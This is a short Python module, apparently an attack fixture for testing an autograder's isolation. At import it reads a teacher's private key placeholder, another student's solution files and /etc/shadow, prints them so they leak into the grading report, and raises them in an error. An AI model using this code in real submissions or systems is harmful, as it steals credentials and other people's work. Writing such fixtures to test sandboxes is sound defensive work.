# mypy: ignore-errors
# Reading outside: at import it reads a private key of the teacher and another student's file,
# prints them (the report keeps what a module prints) and raises them in one position.
SECRETS = []
for path in ("__KEY__", "__OTHER__", "/etc/shadow", "../bob/tictactoe.py", "bob.py"):
    try:
        with open(path) as file:
            SECRETS.append(file.read())
    except OSError as error:
        SECRETS.append(f"({path}: {error.strerror})")
print("stolen:", SECRETS)


def attack():
    raise RuntimeError(f"stolen: {SECRETS}")
